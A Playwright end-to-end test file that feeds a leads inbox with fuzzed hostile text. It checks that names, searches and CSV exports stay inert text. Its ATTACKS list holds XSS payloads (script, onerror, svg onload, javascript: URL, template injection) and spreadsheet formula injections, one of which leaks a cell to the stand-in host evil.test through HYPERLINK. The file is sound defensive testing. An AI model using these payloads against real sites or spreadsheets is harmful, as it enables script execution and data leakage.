import { readFile } from 'node:fs/promises'
import { expect } from '@playwright/test'
import * as fc from 'fast-check'
import { inbox as words } from '#src/content/inbox.ts'
import { hostileText } from '../../stack/src/testing/hostile-messages.ts'
import { withDatabase } from '../stack.ts'
import { find, newMark, newMember, openInbox, search, storeLeads, test, type StoredLead } from './inbox-page.ts'

// 5,000 take minutes: HOSTILE_LEADS=5000 npx playwright test e2e/inbox/inbox-hostile.spec.ts
const LEADS = Number(process.env['HOSTILE_LEADS'] ?? 200)

/** Would set `ran` or leave the page if any of it were more than text. */
const ATTACKS = [
  '<script>window.ran=1</script>',
  '<img src=x onerror="window.ran=1">',
  '<svg/onload=window.ran=1>',
  '"><iframe srcdoc="<script>parent.ran=1</script>">',
  '</title></style></textarea><script>window.ran=1</script>',
  'javascript:window.ran=1',
  '{{constructor.constructor("window.ran=1")()}}',
  '=HYPERLINK("http://evil.test/?"&A1,"Invoice")',
  "=cmd|' /C calc'!A0",
  '+SUM(1,2)',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  'a","b"\r\n"c',
  '\u202egnp.exe',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍'.repeat(20),
]

/** What the database takes: no NUL, no half characters, the lengths of the form. */
const stored = (text: string, most: number) => text.toWellFormed().replaceAll('\0', '').slice(0, most).toWellFormed()

function hostileLeads(mark: string): StoredLead[] {
  const texts = fc.sample(fc.tuple(hostileText, hostileText, hostileText), { numRuns: LEADS, seed: 17 })
  return texts.map(([name, company, message], index) => {
    const attack = ATTACKS[index % ATTACKS.length] ?? ''
    return {
      name: stored(`${attack}${name} ${index}`, 200),
      company: stored(attack + company, 200) || null,
      message: stored(`${attack}${message} and more words`, 5_000),
      email: `hostile-${index}@${mark}.example`,
      secondsAgo: index,
    }
  })
}

/** As a strict reader of RFC 4180, without the byte order mark. */
function readCsv(text: string): string[][] {
  const cell = /"((?:[^"]|"")*)"(,|\r\n)/y
  const table: string[][] = [[]]
  while (cell.lastIndex < text.length) {
    const found = cell.exec(text)
    if (!found) throw new Error(`Broken at ${JSON.stringify(text.slice(cell.lastIndex, cell.lastIndex + 80))}`)
    table.at(-1)?.push(String(found[1]).replaceAll('""', '"'))
    if (found[2] !== ',') table.push([])
  }
  return table.slice(0, -1)
}

// Snapshots of so large a page would take longer than the test.
test.use({ trace: 'off' })

test(`${LEADS} hostile leads are shown, searched and exported as text`, async ({ page }) => {
  test.setTimeout(120_000 + LEADS * 500)
  const mark = newMark()
  const leads = hostileLeads(mark)
  const ids = await storeLeads(leads)
  try {
    await openInbox(page, await newMember('Ruth Calder'))
    await find(page, mark, LEADS)

    const download = page.waitForEvent('download')
    await page.getByRole('button', { name: words.csv.button }).click()
    const csv = await readFile(await (await download).path(), 'utf8')
    expect(csv.startsWith('\ufeff')).toBe(true)
    const [head, ...table] = readCsv(csv.slice(1))
    expect(head).toEqual(words.csv.columns)
    expect(table).toHaveLength(LEADS)
    for (const [index, row] of table.entries()) {
      expect(row).toHaveLength(words.csv.columns.length)
      expect(row.at(-1)).toBe(ids[index])
      expect(row.filter((cell) => /^[\s\p{C}]*[=+\-@]/u.test(cell))).toEqual([])
    }

    // Every lead is in the page once. By selectors from here on: text and roles are looked for in every row.
    await page.locator('.rows').evaluate((list) => {
      const timer = setInterval(() => {
        const more = list.querySelector<HTMLElement>('.rows-end button')
        if (!more) clearInterval(timer)
        else if (more.ariaDisabled !== 'true') more.click()
      }, 20)
    })
    await expect(page.locator('.rows-end')).toHaveText(words.list.end.all, { timeout: LEADS * 400 })
    const drawn = await page.locator('.row b').allTextContents()
    expect(drawn).toEqual(leads.map(({ name }) => name))

    for (const [index] of ATTACKS.entries()) {
      await page.goto(`/inbox#${ids[index]}`)
      await expect.poll(() => page.locator('#who').textContent()).toBe(leads[index]?.name)
      await expect(page.locator('.course')).toBeVisible()
    }
    expect(await page.evaluate(() => 'ran' in window)).toBe(false)

    await page.reload()
    for (const attack of ATTACKS) {
      await search(page, `${mark} ${attack.replaceAll(/[\r\n]/g, ' ').slice(0, 100)}`)
    }
    expect(await page.evaluate(() => 'ran' in window)).toBe(false)
    await expect(page).toHaveURL(/\/inbox#/)
  } finally {
    await withDatabase((sql) => sql`delete from contact_submissions where email like ${`%@${mark}.example`}`)
  }
})
